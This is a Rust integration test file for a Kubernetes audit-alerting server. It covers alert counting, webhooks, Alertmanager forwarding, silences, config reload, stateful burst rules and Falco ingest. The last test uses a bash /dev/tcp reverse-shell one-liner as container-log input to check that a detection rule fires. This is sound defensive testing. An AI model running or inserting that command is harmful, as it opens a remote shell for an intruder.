//! Alerts end to end: audit events match bundled rules, alerts are listed, counted when they
//! repeat, sent once to a webhook receiver, acknowledged, and printed by `kestrel alerts`;
//! the issue's configuration forwards to a real Alertmanager; Alertmanager-format alerts come
//! in; silences mute, from the CLI.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::events::{audit_event, event_list, exec_event, pod_create_event, ALICE};
use crate::harness::{kestrel_cli, wait_for, TestServer};

/// A webhook receiver: a minimal HTTP/1.1 server that records each JSON body it is sent.
struct Receiver {
    url: String,
    received: Arc<Mutex<Vec<Value>>>,
}

impl Receiver {
    async fn start() -> Receiver {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/hook", listener.local_addr().unwrap());
        let received = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&received);
        tokio::spawn(async move {
            loop {
                let (conn, _) = listener.accept().await.unwrap();
                let sink = Arc::clone(&sink);
                tokio::spawn(async move {
                    if let Some(body) = read_request(conn).await {
                        sink.lock().unwrap().push(body);
                    }
                });
            }
        });
        Receiver { url, received }
    }

    fn received(&self) -> Vec<Value> {
        self.received.lock().unwrap().clone()
    }

    /// Waits until `n` notifications arrived and returns them.
    async fn wait_for(&self, n: usize) -> Vec<Value> {
        wait_for(&format!("{n} notifications"), async || {
            let got = self.received();
            (got.len() >= n).then_some(got)
        })
        .await
    }
    /// Waits until a notification of `rule` arrived, then checks that `n` arrived in all.
    async fn wait_for_rule(&self, rule: &str, n: usize) -> Vec<Value> {
        let got = wait_for(&format!("a notification of {rule}"), async || {
            let got = self.received();
            got.iter()
                .any(|v| v["alerts"][0]["rule"] == rule)
                .then_some(got)
        })
        .await;
        if got.len() < n {
            return self.wait_for(n).await;
        }
        got
    }
}

/// Reads one request (headers, then `Content-Length` bytes), answers 200 and closes.
async fn read_request(mut conn: TcpStream) -> Option<Value> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    let header_end = loop {
        let n = conn.read(&mut chunk).await.ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
    };
    let headers = String::from_utf8_lossy(&buf[..header_end]).to_ascii_lowercase();
    assert!(headers.starts_with("post /hook "), "{headers}");
    let length: usize = headers
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .map(|v| v.trim().parse().unwrap())
        .expect("content-length");
    while buf.len() < header_end + length {
        let n = conn.read(&mut chunk).await.ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
    }
    conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
        .await
        .ok()?;
    let _ = conn.shutdown().await;
    serde_json::from_slice(&buf[header_end..header_end + length]).ok()
}

/// The alert of `rule` in a `GET /v1/alerts` answer.
fn alert_of<'a>(alerts: &'a Value, rule: &str) -> &'a Value {
    alerts["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule"] == rule)
        .unwrap_or_else(|| panic!("no alert of {rule:?} in {alerts}"))
}

const EXEC: &str = "Kestrel Exec Or Attach Into Pod";
const PRIVILEGED: &str = "Kestrel Privileged Container";
const POD_BY_USER: &str = "Kestrel Pod Created By Non-System User";
const CLUSTER_ADMIN: &str = "Kestrel Binding To cluster-admin";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rule_matches_become_alerts_counted_notified_once_and_acknowledged() {
    let receiver = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let config = tmp.path().join("kestrel.yaml");
    std::fs::write(
        &config,
        format!(
            "alerting:\n  receivers:\n    - name: hook\n      webhook:\n        url: {}\n      initial_backoff: 50ms\n",
            receiver.url
        ),
    )
    .unwrap();
    let data = tmp.path().join("data");
    let server = TestServer::start_with_config(&data, Some(&config)).await;
    let api = server.api();
    let admin = Some(server.admin.as_str());

    // alice execs into a pod (ResponseStarted, 101, then ResponseComplete) and creates a
    // privileged pod.
    let exec = exec_event("alert-exec-1", ALICE, "shop", "payments-7d9f8-x2x4q");
    let mut exec_done = exec.clone();
    exec_done["stage"] = json!("ResponseComplete");
    let pod = pod_create_event("alert-pod-1", ALICE, "shop", "debug-root", true);
    let r = api
        .post_audit(admin, event_list(&[exec, exec_done, pod]))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!((r.num("accepted"), r.num("alerts")), (3, 3), "{}", r.text);

    let alerts = api.get("/v1/alerts", admin).await.json();
    assert_eq!(alerts["alerts"].as_array().unwrap().len(), 3, "{alerts}");
    let exec_alert = alert_of(&alerts, EXEC).clone();
    assert_eq!(
        exec_alert["priority"].as_str().unwrap().to_lowercase(),
        "notice"
    );
    assert_eq!(exec_alert["status"], "firing");
    assert_eq!(exec_alert["count"], 1);
    let output = exec_alert["output"].as_str().unwrap();
    assert!(
        output.contains("pod=payments-7d9f8-x2x4q") && output.contains(ALICE),
        "{output}"
    );
    let privileged = alert_of(&alerts, PRIVILEGED);
    assert_eq!(
        privileged["priority"].as_str().unwrap().to_lowercase(),
        "warning"
    );
    assert!(privileged["output"]
        .as_str()
        .unwrap()
        .contains("pod=debug-root"));
    assert_eq!(privileged["count"], 1);
    alert_of(&alerts, POD_BY_USER);

    // The alert's event reference is a query that finds the event.
    let query = exec_alert["event"]["query"].as_str().expect("event query");
    let rows = server.query(query).await;
    assert!(!rows.is_empty(), "{query} found nothing");
    let ids = server
        .query(&format!(
            "SELECT DISTINCT audit_id, subresource FROM ({}) AS e",
            query.trim_end_matches(';')
        ))
        .await;
    assert_eq!(ids, [[json!("alert-exec-1"), json!("exec")]]);

    // The receiver got one notification per alert.
    let first = receiver.wait_for(3).await;

    // The same exec again (a new request, so a new auditID): counted, not re-sent.
    let again = exec_event("alert-exec-2", ALICE, "shop", "payments-7d9f8-x2x4q");
    let r = api.post_audit(admin, event_list(&[again])).await;
    assert_eq!((r.num("accepted"), r.num("alerts")), (1, 0), "{}", r.text);
    let detail = api
        .get(
            &format!("/v1/alerts/{}", exec_alert["id"].as_str().unwrap()),
            admin,
        )
        .await
        .json();
    assert_eq!(detail["alert"]["count"], 2);
    assert_eq!(
        detail["deliveries"].as_array().unwrap().len(),
        1,
        "{detail}"
    );

    // A new, different alert goes through the same receiver queue after anything the repeat
    // could have queued; once it arrived, nothing else was sent.
    let mut binding = audit_event(
        "alert-binding-1",
        "ResponseComplete",
        "create",
        ALICE,
        "clusterrolebindings",
        "",
        "alice-admin",
    );
    binding["objectRef"] = json!({"resource": "clusterrolebindings", "name": "alice-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
    binding["requestURI"] = json!("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings");
    binding["level"] = json!("Request");
    binding["requestObject"] = json!({
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "alice-admin"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": ALICE}],
    });
    let r = api.post_audit(admin, event_list(&[binding])).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(r.num("alerts") >= 1, "{}", r.text);
    let expected = 3 + r.num("alerts") as usize;
    let all = receiver.wait_for_rule(CLUSTER_ADMIN, expected).await;
    assert_eq!(all.len(), expected, "a repeated alert was notified again");
    assert_eq!(&all[..3], &first[..]);
    let mut per_alert: BTreeMap<String, usize> = BTreeMap::new();
    for n in &all {
        assert_eq!(n["receiver"], "hook");
        let alerts = n["alerts"].as_array().unwrap();
        assert_eq!(alerts.len(), 1);
        *per_alert
            .entry(alerts[0]["id"].as_str().unwrap().to_string())
            .or_default() += 1;
    }
    assert!(per_alert.values().all(|&n| n == 1), "{per_alert:?}");
    assert!(per_alert.contains_key(exec_alert["id"].as_str().unwrap()));

    // Acknowledge with the admin token.
    let id = exec_alert["id"].as_str().unwrap();
    let r = api
        .post(&format!("/v1/alerts/{id}/ack"), admin, &Value::Null)
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let acked = &r.json()["alert"];
    assert_eq!(acked["status"], "acknowledged");
    assert_eq!(acked["status_by"], "admin");
    let listed = api
        .get("/v1/alerts?status=acknowledged", admin)
        .await
        .json();
    assert_eq!(listed["alerts"].as_array().unwrap().len(), 1);

    // `kestrel alerts` finds the server from the data directory and prints them.
    let out = kestrel_cli(&["alerts", "--data-dir", data.to_str().unwrap()], &[]);
    assert!(out.status.success(), "{}", out.stderr);
    for text in [EXEC, PRIVILEGED, POD_BY_USER, "acknowledged", "firing", id] {
        assert!(
            out.stdout.contains(text),
            "{text:?} missing from:\n{}",
            out.stdout
        );
    }
}

/// Kills a child process when dropped.
struct ChildGuard(std::process::Child);

impl Drop for ChildGuard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

const ALERTMANAGER: &str = "/usr/bin/prometheus-alertmanager";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_issue_configuration_forwards_alerts_to_a_real_alertmanager() {
    if !std::path::Path::new(ALERTMANAGER).exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "{ALERTMANAGER} is missing; .ci/run installs prometheus-alertmanager"
        );
        eprintln!(
            "SKIPPED: {ALERTMANAGER} is not installed (apt-get install prometheus-alertmanager)"
        );
        return;
    }
    let receiver = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let am_config = tmp.path().join("alertmanager.yml");
    std::fs::write(
        &am_config,
        format!(
            "route:\n  receiver: hook\n  group_wait: 0s\n  group_interval: 1s\nreceivers:\n  - name: hook\n    webhook_configs:\n      - url: {}\n",
            receiver.url
        ),
    )
    .unwrap();
    let _am = ChildGuard(
        std::process::Command::new(ALERTMANAGER)
            .arg(format!("--config.file={}", am_config.display()))
            .arg(format!(
                "--storage.path={}",
                tmp.path().join("am").display()
            ))
            .arg(format!("--web.listen-address=127.0.0.1:{port}"))
            .arg("--cluster.listen-address=")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start alertmanager"),
    );
    let http = reqwest::Client::new();
    wait_for("alertmanager to be ready", async || {
        let r = http
            .get(format!("http://127.0.0.1:{port}/-/ready"))
            .send()
            .await
            .ok()?;
        r.status().is_success().then_some(())
    })
    .await;

    // The configuration of the issue, verbatim but for the port.
    let config = tmp.path().join("kestrel.yaml");
    std::fs::write(
        &config,
        format!(
            "alerting:\n  route:\n    receiver: am\n    group_by: [rule]\n    group_wait: 1s\n  receivers:\n    - name: am\n      alertmanager:\n        url: http://127.0.0.1:{port}\n"
        ),
    )
    .unwrap();
    let server = TestServer::start_with_config(&tmp.path().join("data"), Some(&config)).await;
    let admin = Some(server.admin.as_str());
    let exec = exec_event("am-exec-1", ALICE, "shop", "payments-7d9f8-x2x4q");
    let r = server.api().post_audit(admin, event_list(&[exec])).await;
    assert_eq!(r.status, 200, "{}", r.text);

    let got = wait_for("alertmanager's webhook notification", async || {
        let got = receiver.received();
        got.into_iter()
            .find(|v| v["alerts"][0]["labels"]["alertname"] == EXEC)
    })
    .await;
    assert_eq!(got["version"], "4");
    assert_eq!(got["status"], "firing");
    let labels = &got["alerts"][0]["labels"];
    assert_eq!(labels["rule"], EXEC);
    assert_eq!(labels["namespace"], "shop");
    assert_eq!(labels["user_name"], ALICE);
    assert!(got["alerts"][0]["annotations"]["summary"]
        .as_str()
        .unwrap()
        .contains("payments-7d9f8-x2x4q"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alertmanager_format_alerts_come_in_and_silences_mute_them_from_the_cli() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let server = TestServer::start(&data).await;
    let api = server.api();
    let ingest = server.create_token("ingest", "prometheus");
    let data_arg = data.to_str().unwrap();

    // A silence for namespace dev, made with the CLI.
    let out = kestrel_cli(
        &[
            "alerts",
            "--data-dir",
            data_arg,
            "silence",
            "add",
            "namespace=\"dev\"",
            "--duration",
            "2h",
            "--comment",
            "load test",
        ],
        &[],
    );
    assert!(out.status.success(), "{}", out.stderr);
    let silence_id = out.stdout.split_whitespace().nth(1).unwrap().to_string();
    let out = kestrel_cli(
        &[
            "alerts",
            "--data-dir",
            data_arg,
            "silence",
            "list",
            "-f",
            "json",
        ],
        &[],
    );
    assert!(
        out.stdout.contains(&silence_id) && out.stdout.contains("active"),
        "{}",
        out.stdout
    );

    // Prometheus posts two alerts, one in dev, and one item without labels.
    let body = json!([
        {"labels": {"alertname": "KubePodCrashLooping", "severity": "warning", "namespace": "dev"},
         "annotations": {"description": "dev/web-0 crash looping"}},
        {"labels": {"alertname": "KubeNodeNotReady", "severity": "critical", "node": "node-1"},
         "annotations": {"summary": "node-1 not ready"}, "generatorURL": "http://prometheus/graph"},
        {"annotations": {"summary": "no labels"}},
    ]);
    let r = api.post("/api/v2/alerts", Some(&ingest), &body).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.num("accepted"), 2, "{}", r.text);
    assert_eq!(r.json()["refused"].as_array().unwrap().len(), 1);
    let r = api
        .post("/api/v1/alerts", Some(&ingest), &json!([body[1].clone()]))
        .await;
    assert_eq!(
        (r.status, r.json()["status"].clone()),
        (200, json!("success"))
    );

    let admin = Some(server.admin.as_str());
    let alerts = api.get("/v1/alerts", admin).await.json();
    let crash = alerts["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule"] == "KubePodCrashLooping")
        .unwrap()
        .clone();
    assert_eq!(crash["output"], "dev/web-0 crash looping");
    assert_eq!(crash["source"], "alertmanager");
    let node = alert_of(&alerts, "KubeNodeNotReady");
    assert_eq!(node["count"], 2);
    assert_eq!(node["generator_url"], "http://prometheus/graph");
    let detail = api
        .get(
            &format!("/v1/alerts/{}", crash["id"].as_str().unwrap()),
            admin,
        )
        .await
        .json();
    assert_eq!(detail["muted"]["by"], "silence");
    assert_eq!(detail["muted"]["id"], silence_id.as_str());

    // Expired from the CLI: the alert is no longer muted.
    let out = kestrel_cli(
        &[
            "alerts",
            "--data-dir",
            data_arg,
            "silence",
            "expire",
            &silence_id,
        ],
        &[],
    );
    assert!(out.status.success(), "{}", out.stderr);
    let detail = api
        .get(
            &format!("/v1/alerts/{}", crash["id"].as_str().unwrap()),
            admin,
        )
        .await
        .json();
    assert!(detail["muted"].is_null(), "{detail}");

    // Resolved by the sender: an endsAt in the past.
    let mut resolved = body[1].clone();
    resolved["endsAt"] = json!("2020-01-01T00:00:00Z");
    let r = api
        .post("/api/v2/alerts", Some(&ingest), &json!([resolved]))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let alerts = api.get("/v1/alerts", admin).await.json();
    let node = alert_of(&alerts, "KubeNodeNotReady");
    assert_eq!(
        (node["status"].clone(), node["status_by"].clone()),
        (json!("resolved"), json!("sender"))
    );

    // A viewer may not create silences; bad matchers are refused clearly.
    let viewer = server.create_token("viewer", "v");
    let r = api
        .post(
            "/v1/silences",
            Some(&viewer),
            &json!({"matchers": ["a=\"b\""], "duration": "1h"}),
        )
        .await;
    assert_eq!(r.status, 403);
    let r = api
        .post(
            "/v1/silences",
            admin,
            &json!({"matchers": ["a=~\"(\""], "duration": "1h"}),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.error().contains("bad regex"), "{}", r.text);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_alerting_section_reloads_and_a_bad_one_is_refused_with_every_problem() {
    let receiver = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let config = tmp.path().join("kestrel.yaml");
    std::fs::write(&config, "alerting:\n  receivers: []\n").unwrap();
    let server = TestServer::start_with_config(&tmp.path().join("data"), Some(&config)).await;
    let api = server.api();
    let admin = Some(server.admin.as_str());

    // Nothing is configured: the alert is recorded, nobody is told.
    let exec = exec_event("reload-exec-1", ALICE, "shop", "payments-7d9f8-x2x4q");
    let r = api.post_audit(admin, event_list(&[exec])).await;
    assert_eq!(r.num("alerts"), 1, "{}", r.text);

    std::fs::write(
        &config,
        "alerting:\n  route: {receiver: nobody, group_by: ['...', rule]}\n  receivers:\n    - name: x\n      webhook: {url: 'ftp://x'}\n",
    )
    .unwrap();
    let r = api.post("/v1/config/reload", admin, &Value::Null).await;
    assert_eq!(r.status, 422, "{}", r.text);
    let error = r.error();
    for needle in ["nobody", "ftp://x", "[...]"] {
        assert!(error.contains(needle), "{needle} not in {error}");
    }

    std::fs::write(
        &config,
        format!(
            "alerting:\n  route: {{receiver: hook, group_by: ['...'], group_wait: 0s}}\n  receivers:\n    - name: hook\n      webhook: {{url: '{}'}}\n",
            receiver.url
        ),
    )
    .unwrap();
    let r = api.post("/v1/config/reload", admin, &Value::Null).await;
    assert_eq!(r.status, 200, "{}", r.text);
    // The alert that was open before the reload is routed to the new receiver.
    let got = receiver.wait_for(1).await;
    assert_eq!(got[0]["alerts"][0]["rule"], EXEC);
    let viewer = server.create_token("viewer", "v");
    let r = api
        .post("/v1/config/reload", Some(&viewer), &Value::Null)
        .await;
    assert_eq!(r.status, 403);
}

/// A `get` of a Secret by `user` refused by RBAC (403), as the API server records it.
fn forbidden_read(audit_id: &str, user: &str) -> Value {
    let mut e = audit_event(
        audit_id,
        "ResponseComplete",
        "get",
        user,
        "secrets",
        "kube-system",
        "bootstrap-token-abcdef",
    );
    e["responseStatus"] =
        json!({"metadata": {}, "status": "Failure", "reason": "Forbidden", "code": 403});
    e["annotations"] =
        json!({"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""});
    e
}

const FORBIDDEN_BURST: &str = "Kestrel Repeated Forbidden Requests";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stateful_rules_keep_counting_across_a_restart_and_a_crash() {
    let tmp = tempfile::tempdir().unwrap();
    let config = tmp.path().join("kestrel.yaml");
    // Save the detector's state often, so the crash below finds a recent snapshot.
    std::fs::write(&config, "rules:\n  state_save_interval: 200ms\n").unwrap();
    let data = tmp.path().join("data");
    let mut server = TestServer::start_with_config(&data, Some(&config)).await;
    let admin = server.admin.clone();
    let post = async |server: &TestServer, from: usize, to: usize| {
        let events: Vec<Value> = (from..to)
            .map(|i| forbidden_read(&format!("forbidden-{i}"), "mallory@example.com"))
            .collect();
        let r = server
            .api()
            .post_audit(Some(&admin), event_list(&events))
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        r.num("alerts")
    };
    let alerts_of = async |server: &TestServer| -> Vec<Value> {
        let v = server.api().get("/v1/alerts", Some(&admin)).await.json();
        v["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["rule"] == FORBIDDEN_BURST)
            .cloned()
            .collect()
    };

    // 8 forbidden requests, then a graceful stop: the threshold (20 in 5 minutes) is not
    // reached, and the count is saved at shutdown.
    assert_eq!(post(&server, 0, 8).await, 0);
    server.terminate().await;
    assert!(data.join("detector-state.json").is_file());
    server.restart().await;

    // 8 more, then a crash once the periodic save has written them.
    assert_eq!(post(&server, 8, 16).await, 0);
    let state_file = data.join("detector-state.json");
    wait_for("the detector state to hold 16 matches", async || {
        let text = std::fs::read_to_string(&state_file).ok()?;
        let v: Value = serde_json::from_str(&text).ok()?;
        let times = v["rules"][FORBIDDEN_BURST]["keys"]["mallory@example.com"]["state"]["times"]
            .as_array()?
            .len();
        (times == 16).then_some(())
    })
    .await;
    server.kill9();
    server.restart().await;
    assert!(alerts_of(&server).await.is_empty());

    // 4 more make 20 across two restarts: the burst fires once, counting all 20.
    assert_eq!(post(&server, 16, 20).await, 1);
    let burst = alerts_of(&server).await;
    assert_eq!(burst.len(), 1, "{burst:?}");
    assert!(
        burst[0]["output"]
            .as_str()
            .unwrap()
            .contains("user=mallory@example.com"),
        "{}",
        burst[0]
    );
    assert_eq!(burst[0]["annotations"]["match_count"], "20", "{}", burst[0]);

    // The state is visible in /metrics.
    let metrics = server.api().get("/metrics", Some(&admin)).await.text;
    assert!(metrics.contains("kestrel_rules_state_keys"), "{metrics}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falco_posts_to_a_token_url_become_alerts_and_the_token_is_never_logged() {
    let tmp = tempfile::tempdir().unwrap();
    let server = TestServer::start(&tmp.path().join("data")).await;
    let api = server.api();
    let token = server.create_token("ingest", "falco");
    let event = json!({
        "uuid": "0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
        "output": "09:00:01.000000000: Warning Shell spawned in a container (user=root container=web-0 shell=sh)",
        "priority": "Warning",
        "rule": "Terminal shell in container",
        "time": "2026-11-20T09:00:01.000000000Z",
        "output_fields": {"k8s.ns.name": "shop", "k8s.pod.name": "web-0", "proc.cmdline": "sh"},
        "source": "syscall",
        "tags": ["container", "shell"],
        "hostname": "node-1"
    });
    let r = api
        .post(&format!("/v1/ingest/falco/{token}"), None, &event)
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json()["alerts"], 1);
    let bad = api
        .post("/v1/ingest/falco/kst_not_a_token", None, &event)
        .await;
    assert_eq!(bad.status, 401, "{}", bad.text);
    assert_eq!(server.count("SELECT count(*) FROM falco").await, 1);
    let alerts = api
        .get(
            "/v1/alerts?rule=Terminal%20shell%20in%20container",
            Some(&server.admin),
        )
        .await
        .json();
    assert_eq!(alerts["alerts"][0]["labels"]["pod"], "web-0", "{alerts}");
    let log = server.log_text();
    assert!(!log.contains(&token), "the token reached the log:\n{log}");
    assert!(!log.contains("kst_not_a_token"), "{log}");
}

/// An agent batch of container output from pod `shop/web-0` on node-b, as the agent sends it.
fn container_batch(start: u64, messages: &[&str]) -> Vec<u8> {
    use kestrel_event::{BatchOrigin, ContainerLog, IngestBatch, LogStream, PodIdentity};
    let now = chrono::Utc::now().timestamp_nanos_opt().unwrap();
    let origin = BatchOrigin {
        agent: "node-b-agent".into(),
        cluster: Some("prod".into()),
        node: Some("node-b".into()),
        input: "pod_logs".into(),
        stream: "/var/log/pods/shop_web-0_1f0c/web/0.log".into(),
        file: Some("/var/log/pods/shop_web-0_1f0c/web/0.log".into()),
        pod: Some(PodIdentity {
            namespace: Some("shop".into()),
            pod: Some("web-0".into()),
            container: Some("web".into()),
            ..Default::default()
        }),
    };
    let end = start + messages.len() as u64 * 100;
    let batch = IngestBatch {
        version: kestrel_event::INGEST_FORMAT_VERSION,
        id: kestrel_event::batch_id(&origin.agent, &origin.input, &origin.stream, start, end),
        origin,
        start,
        end,
        container_logs: messages
            .iter()
            .enumerate()
            .map(|(i, m)| ContainerLog {
                time: now + i as i64,
                stream: LogStream::Stdout,
                message: m.to_string(),
                truncated: false,
            })
            .collect(),
        ..Default::default()
    };
    serde_json::to_vec(&batch).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_of_agent_sources_raise_alerts_once_per_batch() {
    let tmp = tempfile::tempdir().unwrap();
    let server = TestServer::start(&tmp.path().join("data")).await;
    let admin = server.admin.clone();
    let send = async |body: Vec<u8>| {
        let r = reqwest::Client::new()
            .post(format!("{}/v1/ingest", server.url))
            .bearer_auth(&admin)
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        let status = r.status();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 200, "{v}");
        v
    };
    let batch = container_batch(
        0,
        &[
            "GET /healthz 200",
            "connecting: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
        ],
    );
    let v = send(batch.clone()).await;
    assert_eq!(
        (v["accepted"].as_u64(), v["alerts"].as_u64()),
        (Some(2), Some(1)),
        "{v}"
    );
    // The same batch again (an agent resending after a crash): stored once, no second alert.
    let v = send(batch).await;
    assert_eq!(
        (v["accepted"].as_u64(), v["alerts"].as_u64()),
        (Some(0), Some(0)),
        "{v}"
    );

    let alerts = server.api().get("/v1/alerts", Some(&admin)).await.json();
    let a = alert_of(&alerts, "Kestrel Reverse Shell In Container Output");
    assert_eq!(a["count"], 1, "{a}");
    assert_eq!(a["labels"]["namespace"], "shop", "{a}");
    assert_eq!(a["labels"]["pod"], "web-0", "{a}");
    assert_eq!(a["labels"]["node"], "node-b", "{a}");
    assert_eq!(a["labels"]["cluster"], "prod", "{a}");
    // The alert links to the rows behind it.
    let query = a["event"]["query"].as_str().unwrap();
    let rows = server.query(query).await;
    assert_eq!(rows.len(), 2, "{query}");
}
